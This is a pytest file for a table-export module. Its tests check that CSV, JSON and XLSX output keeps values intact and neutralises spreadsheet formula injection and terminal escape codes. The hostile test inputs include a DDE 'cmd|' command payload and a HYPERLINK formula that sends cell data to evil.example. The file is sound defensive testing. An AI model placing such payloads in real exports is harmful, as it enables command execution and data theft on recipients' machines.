"""Each format alone: what was put in comes out again, and nothing runs."""

import csv
import io
import json
import os
import re
import sys
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from models import export
from models.errors import NotAllowedNow, Unavailable
from models.export import Table, formats
from models.text import csv_cell

MOMENT = datetime(2026, 11, 23, 10, 30, 5, 250_000, tzinfo=timezone(timedelta(hours=5)))
HOSTILE = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    ";=1",
    ",=1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "'=1",
    " =1",
    "\u200b=1",
    "\ufeff=1",
]
HARMLESS = [
    "",
    "plain",
    '"=1"',
    "-5",
    "+5,5",
    "1e9",
    "007",
    'a "quoted" word',
    "two\nlines",
    "a;b,c\td",
    "emoji 🐛, עברית, 日本語, e\u0301",
    "https://example.com",
    "it's",
]


def table(*values: Any) -> Table:
    """A table of one column and these cells."""
    return Table("users", ("name",), iter([((value,), ()) for value in values]))


def text(made: Table, kind: str) -> str:
    return b"".join(export.chunks(made, kind)).decode()


def cells(*values: Any) -> list[str]:
    written = text(table(*values), "csv")
    return [row[0] for row in csv.reader(io.StringIO(written, newline=""), strict=True)][1:]


def sheet(*values: Any) -> list[Any]:
    file = io.BytesIO()
    export.write(table(*values), "xlsx", file)
    rows = load_workbook(file)["users"].iter_rows(min_row=2, max_row=len(values) + 1, max_col=1)
    return [row[0] for row in rows]


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
def test_no_csv_cell_starts_a_formula(value: str) -> None:
    (cell,) = cells(value)
    assert cell == f"'{value}"


@pytest.mark.parametrize("value", HARMLESS, ids=ascii)
def test_other_csv_cells_are_what_was_typed(value: str) -> None:
    assert cells(value) == [value]


def test_csv_quotes_every_cell_and_ends_lines_by_rfc_4180() -> None:
    made = Table("users", ("id", "name"), iter([((1, 'a"b'), ()), ((None, "c;d"), ())]))
    assert text(made, "csv") == '"id","name"\r\n"1","a""b"\r\n"","c;d"\r\n'


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])))
def test_a_csv_cell_can_be_taken_back(value: str) -> None:
    (cell,) = cells(value)
    assert cell in (value, f"'{value}")
    assert cell == csv_cell(value)


def test_csv_writes_each_kind_of_value_as_text() -> None:
    values: tuple[Any, ...] = (True, False, None, -5, 2.5, MOMENT, ["a", "b, c"], {"x": ["=1"]}, [])
    assert cells(*values) == [
        "true", "false", "", "-5", "2.5", "2026-11-23T05:30:05.250000Z", "a, b, c",
        '{"x": ["=1"]}', "",
    ]  # fmt: skip


def test_a_list_in_csv_starts_no_formula_either() -> None:
    assert cells(["=1", "x"]) == ["'=1, x"]


def test_control_characters_in_csv_are_shown() -> None:
    assert cells("\x1b]0;owned\x07 \x9b2J") == ["\\x1b]0;owned\\x07 \\x9b2J"]


@pytest.mark.parametrize("value", HOSTILE + HARMLESS, ids=ascii)
def test_json_is_exactly_what_was_typed(value: str) -> None:
    assert json.loads(text(table(value), "json")) == [{"name": value}]
    assert json.loads(text(table(value), "jsonl")) == {"name": value}


def test_json_holds_nothing_that_steers_a_terminal() -> None:
    steering = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0), 0x202E, 0x2066, 0x200F, 0x2028)))
    written = export.json_text({"x": steering}, indent=2)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200f\u2028\u202e\u2066]", written)
    assert json.loads(written) == {"x": steering}


@pytest.mark.parametrize("count", [0, 1, 2, formats.BATCH, formats.BATCH + 1])
def test_json_is_one_document_and_jsonl_one_a_line(count: int) -> None:
    names = [{"name": f"n{number}\n"} for number in range(count)]
    values = [name["name"] for name in names]
    assert json.loads(text(table(*values), "json")) == names
    lines = text(table(*values), "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == names


def test_times_and_objects_in_json() -> None:
    made = Table(
        "tickets",
        ("at", "user.id", "user.name", "assignedTo.id", "assignedTo.name"),
        iter([((MOMENT, "u1", "Ann", None, None), ())]),
    )
    assert json.loads(text(made, "jsonl")) == {
        "at": "2026-11-23T05:30:05.250000Z",
        "user": {"id": "u1", "name": "Ann"},
        "assignedTo": None,
    }


@pytest.mark.parametrize("value", HOSTILE + HARMLESS[1:], ids=ascii)
def test_text_in_xlsx_is_text(value: str) -> None:
    (cell,) = sheet(value)
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert cell.value == value.replace("\r", "_x000D_")  # how sheets keep a carriage return


def test_numbers_times_and_truth_in_xlsx_are_what_they_are() -> None:
    number, moment, truth, nothing, last = sheet(-5, MOMENT, True, None, "end")
    assert (number.data_type, number.value) == ("n", -5)
    assert moment.is_date
    assert abs(moment.value - datetime(2026, 11, 23, 5, 30, 5, 250_000)) < timedelta(seconds=1)  # noqa: DTZ001  # a sheet knows no zones
    assert (truth.data_type, truth.value) == ("b", True)
    assert (nothing.value, last.value) == (None, "end")


def test_what_is_too_long_for_a_cell_of_xlsx_says_so() -> None:
    (cell,) = sheet("x" * (formats.MAX_SHEET_CELL + 1))
    assert len(cell.value) == formats.MAX_SHEET_CELL
    assert cell.value.endswith(formats.CUT)


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "MAX_SHEET_ROWS", 3)
    assert len(sheet("a", "b")) == 2
    with pytest.raises(NotAllowedNow, match="Choose csv"):
        sheet("a", "b", "c")


def test_xlsx_without_its_package_says_what_to_type(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(Unavailable, match=re.escape("pip install 'supportdesk[xlsx]'")):
        sheet("a")


@pytest.mark.parametrize("kind", export.FORMATS)
def test_memory_stays_the_same_however_many_rows(kind: str) -> None:
    def rows() -> Iterator[Any]:
        return (((f"{number} " + "x" * 500,), ()) for number in range(20_000))

    with Path(os.devnull).open("wb") as nowhere:
        tracemalloc.start()
        export.write(Table("users", ("name",), rows()), kind, nowhere)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert peak < 4_000_000  # the rows together are more than 10 MB


def test_a_time_is_written_in_utc() -> None:
    assert export.instant(MOMENT) == "2026-11-23T05:30:05.250000Z"
    assert datetime.fromisoformat(export.instant(MOMENT)) == MOMENT
    assert export.instant(datetime(2026, 1, 1, tzinfo=UTC)) == "2026-01-01T00:00:00Z"
